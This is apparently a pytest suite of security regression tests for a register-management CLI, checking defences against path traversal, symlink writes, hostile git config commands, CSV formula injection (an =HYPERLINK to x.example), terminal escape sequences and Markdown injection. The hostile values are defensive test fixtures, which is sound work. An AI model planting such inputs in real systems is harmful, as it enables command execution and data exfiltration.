"""Regression tests of issue #19: one test per class of attack (docs/security.md names each)."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from lfk.model.vocab import GRADE_COLORS
from lfk.register import Register
from tests.conftest import BASE, REPO, invoke

RISKS = "units/county-amr/risks.yaml"
needs_dot = pytest.mark.skipif(shutil.which("dot") is None, reason="graphviz is not installed")


def load(p: Path) -> dict:
    return yaml.safe_load(p.read_text(encoding="utf-8"))


def dump(p: Path, data: object) -> None:
    p.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")


# -- item 2 / #14: one disclosure policy, one DOT builder --------------------------------------------------
def internal_power_names(root: Path) -> list[str]:
    names = []
    for f in sorted(root.glob("units/*/authorities.yaml")):
        for a in load(f).get("authorities") or []:
            if a.get("internal") or a.get("disclosure") == "internal":
                names.append(a["name"])
    return names


def test_render_public_on_the_demo_draws_no_internal_power(runner: CliRunner, demo_register: Path,
                                                          tmp_path: Path) -> None:
    names = internal_power_names(demo_register)
    assert len(names) >= 10
    out = tmp_path / "pub"
    r = invoke(runner, "render", "--root", str(demo_register), "--public", "--format", "dot", "--out", str(out))
    assert r.exit_code == 0, r.output
    blob = "\n".join(p.read_text(encoding="utf-8") for p in out.rglob("*.dot"))
    assert blob
    for name in names:
        assert name not in blob, name
    full = tmp_path / "all"
    assert invoke(runner, "render", "--root", str(demo_register), "--format", "dot", "--out", str(full)).exit_code == 0
    assert len(list(full.rglob("*.dot"))) > len(list(out.rglob("*.dot")))


def test_a_flow_used_only_by_internal_powers_is_never_drawn_for_the_public(runner: CliRunner, base_register: Path,
                                                                           tmp_path: Path) -> None:
    root = base_register
    flow = {"id": "F-secret", "name": "QXFLOWNAME", "steps": [
        {"id": "S1", "name": "QXSTEPNAME", "conditions": "QXCONDITION", "next": [{"to": "S2", "when": "QXWHEN"}]},
        {"id": "S2", "name": "决定", "end": True}]}
    dump(root / "units/county-amr/flows/F-secret.yaml", flow)
    auths = load(root / "units/county-amr/authorities.yaml")
    auths["authorities"].append({"id": "NB-QX", "name": "QXPOWER", "category": "财务管理", "internal": True,
                                 "flow": "F-secret"})
    dump(root / "units/county-amr/authorities.yaml", auths)
    out = tmp_path / "pub"
    r = invoke(runner, "render", "--root", str(root), "--public", "--format", "dot", "--out", str(out))
    assert r.exit_code == 0, r.output
    blob = "\n".join(p.read_text(encoding="utf-8") for p in out.rglob("*.dot"))
    for marker in ("QXFLOWNAME", "QXSTEPNAME", "QXCONDITION", "QXWHEN", "QXPOWER"):
        assert marker not in blob, marker
    r = invoke(runner, "render", "--root", str(root), "--format", "dot", "--out", str(tmp_path / "int"))
    assert "QXSTEPNAME" in "\n".join(p.read_text(encoding="utf-8") for p in (tmp_path / "int").rglob("*.dot"))


@needs_dot
def test_a_step_named_with_dot_escapes_is_shown_literally_on_the_public_site(base_register: Path,
                                                                             tmp_path: Path) -> None:
    from lfk.site import build_site

    p = base_register / "units/county-amr/flows/F-penalty.yaml"
    data = load(p)
    data["steps"][0]["name"] = "受理 \\G \\N \\L"
    dump(p, data)
    out = tmp_path / "pub"
    build_site(Register(base_register), out, "public", lint=False)
    pages = [f.read_text(encoding="utf-8") for f in out.rglob("*.html")]
    svgs = [t.split("<svg", 1)[1] for t in pages if "<svg" in t and "受理 " in t]
    assert svgs and any("受理 \\G \\N \\L" in s for s in svgs)
    assert not any("受理 county" in s or "F-penalty n0" in s for s in svgs)


def test_the_site_draws_through_lfk_render_only() -> None:
    text = (REPO / "src/lfk/site/flowchart.py").read_text(encoding="utf-8")
    assert "digraph" not in text and "subprocess" not in text and "#" not in re.sub(r"#[^\n]*\n", "", text)


def test_one_grade_palette() -> None:
    from lfk.render import GRADE_COLORS as RENDER

    assert RENDER is GRADE_COLORS
    css = (REPO / "templates/site/site.css").read_text(encoding="utf-8")
    for var, g in (("high", "高"), ("mid", "中"), ("low", "低")):
        assert f"--{var}: {GRADE_COLORS[g]};" in css, var


# -- item 3: writing commands write only register files of a known kind under the root --------------------
OUTSIDE = "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\n"


def hostile_targets(root: Path, tmp: Path) -> list[str]:
    """Paths a writing command must refuse: outside, ``..``, unknown kind, links, not a regular file."""
    (tmp / "passwd").write_text(OUTSIDE, encoding="utf-8")
    (root / "units/county-amr/notes.yaml").write_text("a:   1\n", encoding="utf-8")
    (root / "units/county-amr/flows/F-link.yaml").symlink_to(tmp / "passwd")
    (root / "units/county-amr/flows/F-inner.yaml").symlink_to(root / "units/county-amr/flows/F-penalty.yaml")
    os.mkfifo(root / "units/county-amr/flows/F-fifo.yaml")
    return [str(tmp / "passwd"), "units/county-amr/../../../passwd", str(root / "units/county-amr/notes.yaml"),
            "units/county-amr/flows/F-link.yaml", "units/county-amr/flows/F-inner.yaml",
            "units/county-amr/flows/F-fifo.yaml", str(tmp)]


def test_fmt_refuses_every_file_that_is_not_a_register_file_under_the_root(runner: CliRunner,
                                                                          base_register: Path,
                                                                          tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    for target in hostile_targets(base_register, out):
        before = {p: p.read_bytes() for p in out.rglob("*") if p.is_file()}
        r = invoke(runner, "fmt", "--root", str(base_register), target)
        assert r.exit_code == 2, (target, r.output)
        assert "reformatted" not in r.output and "已格式化" not in r.output
        assert {p: p.read_bytes() for p in out.rglob("*") if p.is_file()} == before
        assert (out / "passwd").read_text(encoding="utf-8") == OUTSIDE
    assert (base_register / "units/county-amr/flows/F-link.yaml").is_symlink()


def test_grade_write_never_writes_through_a_link(runner: CliRunner, base_register: Path, tmp_path: Path) -> None:
    from tests.cli.test_cli_grade import drift

    drift(base_register)
    real = tmp_path / "elsewhere.yaml"
    shutil.move(base_register / RISKS, real)
    (base_register / RISKS).symlink_to(real)
    before = real.read_bytes()
    r = invoke(runner, "grade", "--root", str(base_register), "--write")
    assert r.exit_code in (0, 1, 2) and real.read_bytes() == before  # outside: not even read
    inner = base_register / "units/county-amr/risks-real.yaml"
    (base_register / RISKS).unlink()
    shutil.move(real, inner)
    (base_register / RISKS).symlink_to(inner)
    r = invoke(runner, "grade", "--root", str(base_register), "--write")
    assert r.exit_code == 2 and "link" in r.output
    assert (base_register / RISKS).is_symlink() and inner.read_bytes() == before


def test_register_target_is_the_one_check() -> None:
    from lfk.core.errors import UsageError
    from lfk.loader.guard import register_target

    for bad in ("/etc/passwd", "units/x/../../../etc/passwd", "units/U/notes.yaml", ".lfk-cache/x.yaml",
                "units/U/benchmarks/../../../../X.yaml", "README.md"):
        with pytest.raises(UsageError):
            register_target(BASE, bad)
    assert register_target(BASE, RISKS)[1] == RISKS
    assert register_target(BASE, "units/new-unit/benchmarks/XK-1.yaml")[1] == "units/new-unit/benchmarks/XK-1.yaml"


# -- item 4: concurrent writers lose no edit; edits are addressed by id ---------------------------------
def test_grade_write_addresses_risks_by_id_when_the_file_moved_on(base_register: Path) -> None:
    from lfk.grading.report import grade_register, write_grades
    from tests.cli.test_cli_grade import drift

    drift(base_register)
    reg = Register(base_register)
    report = grade_register(reg)
    p = base_register / RISKS
    # another writer inserts two risks at the top after lfk read the file
    text = p.read_text(encoding="utf-8")
    extra = ("  - id: R-100\n    title: 新增一\n    category: 权力行使\n    kind: 运行程序不规范\n    grade: 低\n"
             "  - id: R-101\n    title: 新增二\n    category: 权力行使\n    kind: 运行程序不规范\n    grade: 低\n")
    p.write_text(text.replace("risks:\n", "risks:\n" + extra, 1), encoding="utf-8")
    changes = write_grades(reg, report)
    assert {c.risk for c in changes} == {"R-003", "R-005"}
    risks = {r["id"]: r for r in load(p)["risks"]}
    assert risks["R-003"]["grade"] == "中" and risks["R-005"]["grade"] == "低"
    assert risks["R-100"]["grade"] == "低" and risks["R-101"]["grade"] == "低" and risks["R-001"]["grade"] == "高"


def test_an_edit_of_a_risk_changed_since_it_was_read_is_refused(base_register: Path) -> None:
    from lfk.core.errors import WriteError
    from lfk.grading.report import grade_register, write_grades
    from tests.cli.test_cli_grade import drift

    drift(base_register)
    reg = Register(base_register)
    report = grade_register(reg)
    p = base_register / RISKS
    data = load(p)
    data["risks"][2]["factors"] = {k: 1 for k in data["risks"][2].get("factors", {})} or {"importance": 1}
    dump(p, data)
    before = p.read_bytes()
    with pytest.raises(WriteError):
        write_grades(reg, report)
    assert p.read_bytes() == before


WRITER = """
import sys
from lfk.cli.main import app
sys.argv = ["lfk", *sys.argv[1:]]
try:
    app()
except SystemExit as e:
    sys.exit(e.code)
"""


def test_two_writers_in_parallel_processes_lose_no_edit(tmp_path: Path) -> None:
    from tests.cli.test_cli_grade import drift

    script = tmp_path / "w.py"
    script.write_text(WRITER, encoding="utf-8")
    env = {**os.environ, "LFK_CACHE_DIR": str(tmp_path / "cache")}
    for rnd in range(6):
        root = tmp_path / f"r{rnd}"
        shutil.copytree(BASE, root)
        for q in [root, *root.rglob("*")]:
            q.chmod(q.stat().st_mode | 0o200)
        drift(root)
        cmds = [[sys.executable, str(script), "grade", "--root", str(root), "--write"],
                [sys.executable, str(script), "approve", "AP-2026-03", "--root", str(root)]]
        if rnd % 2:
            cmds.reverse()
        procs = [subprocess.Popen(c, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE) for c in cmds]
        codes = {}
        for c, pr in zip(cmds, procs, strict=True):
            out, err = pr.communicate(timeout=300)
            codes[c[2]] = pr.returncode
            assert pr.returncode in (0, 2), (c[2], out, err)
            if pr.returncode == 2:
                assert b"changed since" in err + out, err
        risks = {r["id"]: r for r in load(root / RISKS)["risks"]}
        if codes["grade"] == 0:
            assert risks["R-003"]["grade"] == "中" and risks["R-005"]["grade"] == "低", rnd
        if codes["approve"] == 0:
            assert all(r.get("approval") == "AP-2026-03" and r.get("approved_digest") for r in risks.values()), rnd
        assert 0 in codes.values()


# -- item 14: git runs no program a repository names ------------------------------------------------------
def git(root: Path, *args: str) -> None:
    subprocess.run(["git", *args], cwd=root, check=True, capture_output=True,
                   env={**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.org",
                        "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.org"})


def test_hostile_git_config_runs_nothing(runner: CliRunner, base_register: Path, tmp_path: Path) -> None:
    root = base_register
    git(root, "init", "-q")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "one")
    marks = [tmp_path / "fsmonitor-ran", tmp_path / "filter-ran", tmp_path / "textconv-ran", tmp_path / "hook-ran"]
    git(root, "config", "core.fsmonitor", f"touch {marks[0]}; false")
    git(root, "config", "filter.evil.clean", f"touch {marks[1]}; cat")
    git(root, "config", "diff.evil.textconv", f"touch {marks[2]}; cat")
    git(root, "config", "diff.external", f"touch {marks[3]}")
    (root / ".gitattributes").write_text("* filter=evil diff=evil\n", encoding="utf-8")
    p = root / RISKS
    p.write_text(p.read_text(encoding="utf-8").replace("title: ", "title: 改", 1), encoding="utf-8")
    new_unit = root / "units/county-new"
    new_unit.mkdir()
    (new_unit / "unit.yaml").write_text("id: county-new\nname: 新单位\ntype: 行政机关\n", encoding="utf-8")
    (root / ".gitignore").write_text("units/county-new/\n", encoding="utf-8")
    r = invoke(runner, "diff", "HEAD", "--root", str(root), "--format", "json")
    assert r.exit_code in (0, 1), r.output
    assert "county-amr" in r.stdout
    r = invoke(runner, "lint", "--root", str(root), "--changed-since", "HEAD", "--format", "json")
    assert r.exit_code in (0, 1), r.output
    for m in marks:
        assert not m.exists(), m.name
    from lfk.lint.changed import changed_files

    changed = changed_files(root, "HEAD")
    assert RISKS in changed and "units/county-new/unit.yaml" in changed  # a git-ignored new unit too


# -- items 8-10: no live formula, no Markdown structure, no control character in output ------------------
ESC = "\x1b]0;pwned\x07\x1b[2K"


def set_title(root: Path, title: str) -> None:
    p = root / RISKS
    data = load(p)
    data["risks"][0]["title"] = title
    dump(p, data)


@pytest.mark.parametrize("fmt", ["text", "github", "junit", "sarif", "json"])
def test_control_characters_never_reach_lint_output(runner: CliRunner, base_register: Path, fmt: str) -> None:
    import xml.etree.ElementTree as ET

    p = base_register / RISKS
    data = load(p)
    data["risks"][0][f"bad{ESC}key"] = 1  # LFK102 names the key
    dump(p, data)
    r = invoke(runner, "lint", "--root", str(base_register), "--format", fmt)
    assert r.exit_code == 1, r.output
    assert "LFK102" in r.stdout
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f]", r.stdout), repr(r.stdout[:300])
    if fmt == "junit":
        ET.fromstring(r.stdout.encode("utf-8"))


def test_grade_csv_cells_are_never_formulas(runner: CliRunner, base_register: Path) -> None:
    import csv
    import io

    set_title(base_register, '=HYPERLINK("http://x.example/?"&A1,"ok")')
    r = invoke(runner, "grade", "--root", str(base_register), "--format", "csv")
    rows = list(csv.reader(io.StringIO(r.stdout)))
    cells = [c for row in rows[1:] for c in row]
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    assert not any(c and c[0] in "=+@" for c in cells)


def test_csv_cell_and_row() -> None:
    from lfk.core.safe import csv_cell, csv_row

    for bad in ("=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "＝1"):
        assert csv_cell(bad).startswith("'"), bad
    assert csv_cell(-3) == -3 and csv_cell("R-001") == "R-001"
    assert csv_row(["=x", ESC, 5]) == ["'=x", "\\x1b]0;pwned\\x07\\x1b[2K", 5]


def test_diff_markdown_takes_no_structure_or_mentions_from_data(runner: CliRunner, base_register: Path) -> None:
    root = base_register
    git(root, "init", "-q")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "one")
    set_title(root, "新标题\r- [x] injected item\r---\r```\r@octocat please" + ESC)
    r = invoke(runner, "diff", "HEAD", "--root", str(root), "--format", "markdown")
    assert r.exit_code in (0, 1), r.output
    lines = r.stdout.splitlines()
    assert not any(ln.startswith(("- [x]", "---", "```")) for ln in lines)
    assert "@octocat" not in r.stdout and "\r" not in r.stdout and "\x1b" not in r.stdout
    assert "injected item" in r.stdout
    t = invoke(runner, "diff", "HEAD", "--root", str(root), "--format", "text")
    assert "\x1b" not in t.stdout and "\r" not in t.stdout


def test_printable() -> None:
    from lfk.core.safe import printable

    assert printable("a\x1b[2Kb\u202ec") == "a\\x1b[2Kb\\u202ec"
    assert printable("a\nb\rc") == "a b c" and printable("a\nb", newlines=True) == "a\nb"
    assert printable("受理 \\G") == "受理 \\G"


# -- item 5: a repeated disclosure key stops a public build ------------------------------------------------
@pytest.mark.parametrize("key", ["internal: true\n    internal: false", "disclosure: internal\n    disclosure: public"])
def test_a_repeated_disclosure_key_stops_a_public_build(runner: CliRunner, base_register: Path, tmp_path: Path,
                                                        key: str) -> None:
    p = base_register / "units/county-amr/authorities.yaml"
    text = p.read_text(encoding="utf-8")
    first = re.search(r"\n(  - id: [^\n]+\n)", text)
    assert first
    text = text.replace(first.group(1), first.group(1) + f"    {key}\n", 1)
    p.write_text(text, encoding="utf-8")
    r = invoke(runner, "site", str(tmp_path / "pub"), "--root", str(base_register), "--audience", "public")
    # a repeated key makes the file unreadable for every command but lint: exit 2 with file:line (issue 15)
    assert r.exit_code == 2, r.output
    assert "LFK002" in r.stderr and "authorities.yaml:4:" in r.stderr and not (tmp_path / "pub" / "index.html").exists()


# -- item 11 and the minor items: one line and exit 2, never a traceback -------------------------------
def test_bad_options_and_values_are_one_line_exit_2(runner: CliRunner, base_register: Path, tmp_path: Path) -> None:
    r = invoke(runner, "new", "unit", "xy\n", "--root", str(base_register))
    assert r.exit_code == 2 and not (base_register / "units" / "xy\n").exists()
    r = invoke(runner, "lint", "--root", str(base_register), "--jobs", "100000")
    assert r.exit_code == 2
    folder = tmp_path / "afolder"
    folder.mkdir()
    r = invoke(runner, "lint", "--root", str(base_register), "--output", str(folder))
    assert r.exit_code == 2 and "Traceback" not in r.output


@pytest.mark.parametrize("text", ["review:\n  cycle_days: 99999999999999999999\n", "lint:\n  max_file_mb: .inf\n"])
def test_unbounded_config_values_are_findings(runner: CliRunner, base_register: Path, text: str) -> None:
    p = base_register / "lfk.yaml"
    data = load(p)
    data.pop(text.split(":")[0], None)
    p.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False) + text, encoding="utf-8")
    r = invoke(runner, "lint", "--root", str(base_register))
    assert r.exit_code == 1 and "LFK101" in r.stdout, r.output
    for cmd in (["grade"], ["render", "--format", "dot", "--out", str(base_register.parent / "o")]):
        r = invoke(runner, *cmd, "--root", str(base_register))
        assert r.exit_code == 2 and len(r.output.strip().splitlines()) == 1, r.output


def test_ids_with_a_trailing_newline_are_not_valid() -> None:
    from lfk.lint.rules._util import valid_id

    assert valid_id("R-001") and not valid_id("R-001\n") and not valid_id("../x")


# -- item 6: an ignore comment is a comment, never data --------------------------------------------------
@pytest.mark.parametrize("value", [
    '"咨询 13812345678 # lfk: ignore[LFK701] 是数据不是注释"',
    "'咨询 13812345678 # lfk: ignore[LFK701] 是数据不是注释'",
    "咨询 13812345678#lfk:ignore[LFK701] 无空格的井号属于文字",
    "|\n      咨询 13812345678 # lfk: ignore[LFK701] 块标量中的文字",
])
def test_an_ignore_written_inside_a_value_suppresses_nothing(base_register: Path, value: str) -> None:
    from lfk.loader import load_bytes

    p = base_register / "units/county-amr/authorities.yaml"
    text = p.read_text(encoding="utf-8")
    old = "    content: 从事食品销售和餐饮服务活动，应当依法取得食品经营许可。"
    assert old in text
    raw = text.replace(old, f"    content: {value}").encode()
    lf = load_bytes(raw, "units/county-amr/authorities.yaml")
    assert lf.data is not None and not lf.suppressions
    p.write_bytes(raw)
    from lfk.lint.engine import lint_register
    found = [f for f in lint_register(Register(base_register)).findings if f.code == "LFK701"]
    assert found and not any(f.suppressed for f in found)


def test_a_real_comment_after_a_quoted_look_alike_still_suppresses() -> None:
    from lfk.loader import load_bytes

    raw = 'a: "x # lfk: ignore[LFK701] data"  # lfk: ignore[LFK702] the real one\n# lfk: ignore[LFK703] own line\nb: 1\n'
    lf = load_bytes(raw.encode(), "x.yaml")
    assert [s.codes for s in lf.suppressions[1]] == [("LFK702",)] and lf.suppressions[1][0].reason == "the real one"
    assert [s.codes for s in lf.suppressions[3]] == [("LFK703",)]
    raw = ("risks:\n  - description: |\n      text\n\n    # lfk: ignore[LFK402] after a block\n    grade: 高\n"
           '  - d: "a\n      # lfk: ignore[LFK404] a quoted continuation"\n    e: 1\n')
    lf = load_bytes(raw.encode(), "x.yaml")
    assert {k: [s.codes for s in v] for k, v in lf.suppressions.items()} == {5: [("LFK402",)], 6: [("LFK402",)]}


# -- minor: a public build over an internal site leaves no internal page --------------------------------
@pytest.mark.parametrize("damage", ["manifest lost", "manifest garbled", "page not in the manifest"])
def test_a_public_build_over_an_internal_site_leaves_no_internal_page(runner: CliRunner, base_register: Path,
                                                                     tmp_path: Path, damage: str) -> None:
    out = tmp_path / "site"
    r = invoke(runner, "site", str(out), "--root", str(base_register), "--audience", "internal")
    assert r.exit_code == 0, r.output
    internal = {p.relative_to(out).as_posix() for p in out.rglob("*.html")}
    (out / "README.txt").write_text("keep", encoding="utf-8")
    manifest = out / ".lfk-site.json"
    if damage == "manifest lost":
        manifest.unlink()
    elif damage == "manifest garbled":
        manifest.write_text("{", encoding="utf-8")
    else:
        (out / "units" / "county-amr" / "powers" / "NB-999.html").write_text("内部", encoding="utf-8")
        internal.add("units/county-amr/powers/NB-999.html")
    args = ["site", str(out), "--root", str(base_register), "--audience", "public"]
    if damage != "page not in the manifest":
        r = invoke(runner, *args)
        assert r.exit_code == 2 and len(r.output.strip().splitlines()) <= 2, r.output  # not a site it knows
    r = invoke(runner, *args, "--force")
    assert r.exit_code == 0, r.output
    public = {p.relative_to(out).as_posix() for p in out.rglob("*.html")}
    assert public < internal
    assert "risks.html" not in public and "units/county-amr/risks.html" not in public
    assert not any("NB-" in p for p in public)
    assert (out / "README.txt").read_text(encoding="utf-8") == "keep"


# -- item 11: odd file names and merge keys with the cache ----------------------------------------------
def test_file_names_that_are_not_utf8_are_findings_for_every_cached_command(runner: CliRunner, base_register: Path,
                                                                            tmp_path: Path) -> None:
    unit = os.fsencode(base_register / "units" / "county-amr")
    flow = base_register / "units" / "county-amr" / "flows" / "F-penalty.yaml"
    Path(os.fsdecode(unit + b"/flows/F-\xff.yaml")).write_bytes(flow.read_bytes())
    Path(os.fsdecode(unit + b"/notes\xfe.txt")).write_text("x", encoding="utf-8")
    for _ in range(2):  # the second run reads the cache
        for fmt in ("text", "json", "junit", "sarif", "github"):
            r = invoke(runner, "lint", "--root", str(base_register), "--format", fmt)
            assert r.exit_code in (0, 1) and "LFK005" in r.stdout and "\\xff" in r.stdout, r.output
            r.stdout.encode("utf-8")
    for args in (["grade"], ["score"], ["site", str(tmp_path / "s")]):
        r = invoke(runner, *args, "--root", str(base_register))
        assert r.exit_code in (0, 1), r.output


def test_a_merge_key_with_dates_reads_and_caches(runner: CliRunner, base_register: Path) -> None:
    from lfk.loader import load_bytes
    from lfk.loader.read import from_cache, to_cache

    raw = (b"base: &b {reviewed: 2026-01-05, at: 2026-01-01T10:00:00, owner: P-1}\n"
           b"x:\n  <<: *b\n  reviewed: 2026-02-01\ny:\n  <<: [*b, {z: 2025-12-31}]\n  owner: P-2\n")
    lf = load_bytes(raw, "t.yaml")
    import datetime as dt
    assert lf.data["x"]["reviewed"] == dt.date(2026, 2, 1) and lf.data["y"]["at"] == dt.datetime(2026, 1, 1, 10)
    assert lf.loc(("x", "reviewed")) == (4, 3) and lf.loc(("y", "owner")) == (7, 3)  # the explicit keys
    payload = to_cache(lf)
    assert payload is not None
    again = from_cache(payload, "t.yaml")
    assert again is not None and again.data == lf.data
    p = base_register / RISKS
    text = p.read_text(encoding="utf-8")
    first = re.search(r"\n  - id: (R-\d+)\n", text)
    assert first
    text = text.replace(first.group(0), first.group(0) + "    <<: {reviewed: 2026-01-05}\n", 1)
    p.write_text(text, encoding="utf-8")
    for _ in range(2):
        r = invoke(runner, "lint", "--root", str(base_register))
        assert r.exit_code in (0, 1) and "internal error" not in r.output, r.output


# -- item 11: writes that fail are one line, exit 2, nothing half-written -------------------------------
def _full_disk(monkeypatch: pytest.MonkeyPatch) -> None:
    import errno

    import lfk.core.fsutil as fsutil

    def full(fd: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(fsutil.os, "fsync", full)


@pytest.mark.parametrize("args", [["export", "--out", "{out}/a.xlsx"], ["export", "--format", "json", "--out", "{out}/a.json"],
                                  ["export", "--format", "csv", "--table", "all", "--out", "{out}/csv"],
                                  ["export", "--format", "csv", "--out", "{out}/a.csv"],
                                  ["lint", "--output", "{out}/lint.txt"], ["init", "{out}/new"]])
def test_a_full_disk_is_one_line_exit_2_and_nothing_half_written(runner: CliRunner, base_register: Path, tmp_path: Path,
                                                                 monkeypatch: pytest.MonkeyPatch, args: list[str]) -> None:
    out = tmp_path / "out"
    out.mkdir()
    _full_disk(monkeypatch)
    argv = [a.format(out=out) for a in args] + ([] if args[0] == "init" else ["--root", str(base_register)])
    r = invoke(runner, *argv)
    assert r.exit_code == 2 and len(r.output.strip().splitlines()) == 1, r.output
    assert "No space left" in r.output and "internal error" not in r.output
    assert not [p for p in out.rglob("*") if p.is_file()], list(out.rglob("*"))  # no file, no temporary left


def test_a_full_stdout_is_a_write_error(monkeypatch: pytest.MonkeyPatch) -> None:
    import errno

    from lfk.cli.common import write_stdout, write_stdout_bytes
    from lfk.core.errors import WriteError

    class Full:
        def write(self, data: object) -> int:
            raise OSError(errno.ENOSPC, "No space left on device")

        def flush(self) -> None:
            pass

        buffer = property(lambda self: self)

    monkeypatch.setattr(sys, "stdout", Full())
    for call in (lambda: write_stdout("x"), lambda: write_stdout_bytes(b"x")):
        with pytest.raises(WriteError, match="No space left"):
            call()


@pytest.mark.parametrize("target", ["/proc/1", "/proc/1/new", "/proc/self/fd/x"])
def test_init_where_nothing_can_be_written_is_one_line(runner: CliRunner, target: str) -> None:
    r = invoke(runner, "init", target)
    assert r.exit_code == 2 and len(r.output.strip().splitlines()) == 1 and "internal error" not in r.output, r.output


@pytest.mark.parametrize("as_of", ["0001-01-01", "9999-12-31", "1900-12-31", "2200-01-01"])
def test_an_extreme_as_of_is_one_line_exit_2(runner: CliRunner, base_register: Path, as_of: str) -> None:
    for cmd in (["lint"], ["score"], ["grade"]):
        r = invoke(runner, *cmd, "--root", str(base_register), "--as-of", as_of)
        assert r.exit_code == 2 and len(r.output.strip().splitlines()) == 1 and "--as-of" in r.output, r.output
    r = invoke(runner, "lint", "--root", str(base_register), "--as-of", "2199-12-31")
    assert r.exit_code in (0, 1), r.output


# -- item 7: the cache is never read or written through a link -----------------------------------------
@pytest.mark.parametrize("layout", ["folder", "dangling", "tag-folder", "kind-folder", "gitignore", "entry"])
def test_a_linked_cache_is_never_written_through(runner: CliRunner, base_register: Path, tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch, layout: str) -> None:
    from lfk.core.cache import Cache

    monkeypatch.delenv("LFK_CACHE_DIR", raising=False)
    outside = tmp_path / "outside"
    outside.mkdir()
    cache = base_register / ".lfk-cache"
    r = invoke(runner, "lint", "--root", str(base_register))  # a real cache first, for the inner layouts
    assert r.exit_code == 0, r.output
    tag = Cache(cache).folder
    if layout in ("folder", "dangling"):
        shutil.rmtree(cache)
        cache.symlink_to(outside if layout == "folder" else outside / "nope")
    elif layout == "tag-folder":
        shutil.rmtree(tag)
        tag.symlink_to(outside)
    elif layout == "kind-folder":
        shutil.rmtree(tag / "parse-unit")
        (tag / "parse-unit").symlink_to(outside)
    elif layout == "gitignore":
        shutil.rmtree(cache)
        cache.mkdir()
        (cache / ".gitignore").symlink_to(outside / "gitignore")
    else:
        entries = [p for p in tag.rglob("*") if p.is_file()]
        assert entries
        for p in entries:
            p.unlink()
            p.symlink_to("/dev/zero")
    for _ in range(2):
        r = invoke(runner, "lint", "--root", str(base_register))
        assert r.exit_code == 0, r.output
        assert invoke(runner, "grade", "--root", str(base_register)).exit_code == 0
    assert not list(outside.iterdir()), os.environ.get("LFK_CACHE_DIR")
    assert (base_register / ".lfk-cache").exists() or layout == "dangling"


# -- minor: usage errors are one line, like every other error -------------------------------------------
@pytest.mark.parametrize("args", [["export", "/tmp/x.csv"], ["lint", "--nope"], ["nosuch"], ["lint", "--jobs", "abc"],
                                  ["site"], ["--nope"], ["grade", "--root"], ["monitor"], ["lint", "--format"],
                                  ["render", "--format", "dot", "-o"]])
def test_usage_errors_are_one_line_exit_2(runner: CliRunner, args: list[str]) -> None:
    r = invoke(runner, *args)
    assert r.exit_code == 2, r.output
    lines = r.output.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("lfk: ") and "Usage:" not in r.output, r.output


# -- items 3-4 for import: it writes through the one guard, under the write lock ------------------------
def test_import_writes_through_the_guard_and_the_lock(runner: CliRunner, base_register: Path, tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    import lfk.tables.importer as importer

    csv_path = tmp_path / "r.csv"
    csv_path.write_text("风险编号,风险点,风险类别,风险等级\nR-900,新的风险,权力行使,高\n", encoding="utf-8")
    outside = base_register / "risks-copy.yaml"  # a link inside the register: read, but never written through
    real = base_register / RISKS
    outside.write_bytes(real.read_bytes())
    real.unlink()
    real.symlink_to(outside)
    before = outside.read_bytes()
    r = invoke(runner, "import", str(csv_path), "--root", str(base_register), "--unit", "county-amr")
    assert r.exit_code == 2 and "symbolic link" in r.output and len(r.output.strip().splitlines()) == 1, r.output
    assert outside.read_bytes() == before and real.is_symlink()
    real.unlink()
    real.write_bytes(before)
    held: list[bool] = []
    lock = importer.register_lock

    def watched(root: Path, *a: object, **kw: object):  # type: ignore[no-untyped-def]
        held.append(True)
        return lock(root, *a, **kw)

    monkeypatch.setattr(importer, "register_lock", watched)
    r = invoke(runner, "import", str(csv_path), "--root", str(base_register), "--unit", "county-amr")
    assert r.exit_code == 0 and held and "R-900" in real.read_text(encoding="utf-8"), r.output


# -- item 10: a YAML-escaped control character is a finding, and reaches no output ----------------------
def test_an_escaped_control_character_is_lfk008_and_reaches_no_page(runner: CliRunner, base_register: Path,
                                                                   tmp_path: Path) -> None:
    p = base_register / "units/county-amr/authorities.yaml"
    text = p.read_text(encoding="utf-8")
    assert "    name: 食品经营许可\n" in text
    p.write_text(text.replace("    name: 食品经营许可\n", '    name: "食品经营许可\\e]0;pwned\\a\\r- [x] y"\n', 1),
                 encoding="utf-8")
    r = invoke(runner, "lint", "--root", str(base_register), "--format", "json")
    assert r.exit_code == 1 and '"LFK008"' in r.stdout and '"error"' in r.stdout, r.output
    for audience in ("public", "internal"):
        out = tmp_path / audience
        r = invoke(runner, "site", str(out), "--root", str(base_register), "--audience", audience)
        assert r.exit_code == 0, r.output  # the text still serves, shown escaped
        for f in out.rglob("*"):
            if f.is_file():
                assert not re.search(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", f.read_bytes()), f
        assert "食品经营许可\\x1b]0;pwned\\x07" in (out / "units/county-amr/powers/XK-001.html").read_text(encoding="utf-8")
    for args in (["grade"], ["score"], ["export", "--format", "json"]):
        r = invoke(runner, *args, "--root", str(base_register))
        assert r.exit_code in (0, 1) and "\x1b" not in r.stdout, (args, r.output)
